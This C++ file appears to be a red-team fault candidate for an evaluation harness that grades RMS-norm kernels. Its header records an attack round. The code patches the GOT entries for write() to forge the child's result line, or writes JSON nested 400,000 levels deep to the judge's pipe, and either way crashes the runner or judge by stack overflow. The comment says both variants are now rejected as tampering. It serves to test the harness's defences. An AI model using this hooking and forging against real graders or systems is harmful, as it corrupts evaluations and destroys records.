// Fault candidate (attack round 9, 2026-12-07; docs/evaluation.md "Threat model"): JSON nested a
// few hundred thousand levels deep, where another process parses what the candidate's process
// writes. nlohmann's parser took it; the first dump() of it (an error message quoting the value,
// JsonField::fail) recursed that deep and overflowed the stack.
//   ATTACK_DEEP 1: on its first call patches the `write` slots of the loaded objects' GOTs (as
//     rms_norm_slows_clock.cpp patches clock_gettime); when the child writes its result line, the
//     hook copies the child's nonce from it and writes {"nonce":..., "schema":[[[...]]]} nested
//     DEPTH deep instead. It killed `atrex eval` (the runner's process: SIGSEGV, every record of
//     the task lost).
//   ATTACK_DEEP 2: writes one array nested DEPTH deep to fd 6 (the child's pipe to the judge): the
//     judge died of SIGSEGV (the task `crashed`, not `rejected: tampering`).
//   ATTACK_DEEP 0: the honest twin (the same patch; the hook passes every write through).
// Now both are `rejected: tampering` ("... nested deeper than 32 levels"): the runner and the
// judge parse what the child writes with parse_untrusted_json (common/json_io.h).
#include <cstring>
#include <dlfcn.h>
#include <elf.h>
#include <link.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <string>
#define ATTACK_DEEP 1
#define DEPTH 400000
static bool g_done = false;
static int g_patched = 0;
static ssize_t raw_write(int fd, const void* b, size_t n) { return syscall(SYS_write, fd, b, n); }
extern "C" ssize_t hook_write(int fd, const void* buf, size_t n) {
  if (ATTACK_DEEP == 1 && n > 40) {
    std::string s(static_cast<const char*>(buf), n);
    const size_t at = s.find("\"nonce\":\"");
    if (at != std::string::npos && s.find("\"schema\":\"") != std::string::npos) {
      const size_t from = at + 9, to = s.find('"', from);
      std::string line = "{\"nonce\":\"" + s.substr(from, to - from) + "\",\"schema\":";
      line += std::string(DEPTH, '[');
      line += std::string(DEPTH, ']');
      line += "}\n";
      for (size_t d = 0; d < line.size();) { ssize_t w = raw_write(fd, line.data() + d, line.size() - d); if (w <= 0) break; d += w; }
      return static_cast<ssize_t>(n);
    }
  }
  return raw_write(fd, buf, n);
}
static uintptr_t dyn_ptr(const ElfW(Dyn) * d, ElfW(Addr) base) {
  const uintptr_t v = d->d_un.d_ptr;
  return v < base ? v + base : v;
}
static int patch_object(struct dl_phdr_info* info, size_t, void*) {
  const ElfW(Dyn)* dyn = nullptr;
  for (int i = 0; i < info->dlpi_phnum; ++i)
    if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
      dyn = reinterpret_cast<const ElfW(Dyn)*>(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
  if (!dyn || std::strstr(info->dlpi_name, "linux-vdso") != nullptr) return 0;
  const ElfW(Sym)* symtab = nullptr; const char* strtab = nullptr;
  const ElfW(Rela)* tables[2] = {nullptr, nullptr}; size_t sizes[2] = {0, 0};
  for (const ElfW(Dyn)* d = dyn; d->d_tag != DT_NULL; ++d) {
    switch (d->d_tag) {
      case DT_SYMTAB: symtab = reinterpret_cast<const ElfW(Sym)*>(dyn_ptr(d, info->dlpi_addr)); break;
      case DT_STRTAB: strtab = reinterpret_cast<const char*>(dyn_ptr(d, info->dlpi_addr)); break;
      case DT_JMPREL: tables[0] = reinterpret_cast<const ElfW(Rela)*>(dyn_ptr(d, info->dlpi_addr)); break;
      case DT_PLTRELSZ: sizes[0] = d->d_un.d_val; break;
      case DT_RELA: tables[1] = reinterpret_cast<const ElfW(Rela)*>(dyn_ptr(d, info->dlpi_addr)); break;
      case DT_RELASZ: sizes[1] = d->d_un.d_val; break;
      default: break;
    }
  }
  if (!symtab || !strtab) return 0;
  const long page = sysconf(_SC_PAGESIZE);
  for (int t = 0; t < 2; ++t) {
    if (!tables[t]) continue;
    for (size_t k = 0; k < sizes[t] / sizeof(ElfW(Rela)); ++k) {
      const ElfW(Rela)& r = tables[t][k];
      const auto type = ELF64_R_TYPE(r.r_info);
      if (type != R_X86_64_JUMP_SLOT && type != R_X86_64_GLOB_DAT) continue;
      const char* name = strtab + symtab[ELF64_R_SYM(r.r_info)].st_name;
      if (std::strcmp(name, "write") != 0) continue;
      auto* slot = reinterpret_cast<void**>(info->dlpi_addr + r.r_offset);
      const uintptr_t at = reinterpret_cast<uintptr_t>(slot) & ~static_cast<uintptr_t>(page - 1);
      if (mprotect(reinterpret_cast<void*>(at), static_cast<size_t>(page), PROT_READ | PROT_WRITE) != 0) continue;
      *slot = reinterpret_cast<void*>(&hook_write);
      ++g_patched;
    }
  }
  return 0;
}
static void forge() {
  g_done = true;
  dl_iterate_phdr(patch_object, nullptr);
  if (ATTACK_DEEP != 2) return;
  std::string line(DEPTH, '[');
  line += std::string(DEPTH, ']');
  line += "\n";
  for (size_t d = 0; d < line.size();) {
    const ssize_t w = raw_write(6, line.data() + d, line.size() - d);
    if (w <= 0) return;
    d += static_cast<size_t>(w);
  }
}
#include <cmath>
#include <cstring>

#include "atrex/candidate.h"

static float bf16_to_float(uint16_t h) {
  uint32_t u = static_cast<uint32_t>(h) << 16;
  float f;
  std::memcpy(&f, &u, 4);
  return f;
}

static uint16_t float_to_bf16(float f) {
  uint32_t u;
  std::memcpy(&u, &f, 4);
  if ((u & 0x7fffffffu) > 0x7f800000u) return static_cast<uint16_t>((u >> 16) | 0x40u);
  u += 0x7fffu + ((u >> 16) & 1u);
  return static_cast<uint16_t>(u >> 16);
}

ATREX_CANDIDATE_EXPORT int atrex_candidate_run(const AtrexLaunch* launch) {
  if (!g_done) forge();
  const DLTensor* x = atrex_input(launch, "x");
  const DLTensor* w = atrex_input(launch, "weight");
  const DLTensor* out = atrex_output(launch, "out");
  if (!x || !w || !out || x->ndim != 2) return 1;
  const int64_t rows = x->shape[0], hidden = x->shape[1];
  const float eps = static_cast<float>(atrex_param_float(launch, "eps", 1e-6));
  const auto* xs = static_cast<const uint16_t*>(x->data);
  const auto* ws = static_cast<const uint16_t*>(w->data);
  auto* os = static_cast<uint16_t*>(out->data);
  for (int64_t r = 0; r < rows; ++r) {
    float ss = 0;
    for (int64_t h = 0; h < hidden; ++h) {
      const float v = bf16_to_float(xs[r * hidden + h]);
      ss += v * v;
    }
    const float inv = 1.0f / std::sqrt(ss / static_cast<float>(hidden) + eps);
    for (int64_t h = 0; h < hidden; ++h) {
      os[r * hidden + h] =
          float_to_bf16(bf16_to_float(xs[r * hidden + h]) * inv * bf16_to_float(ws[h]));
    }
  }
  return 0;
}
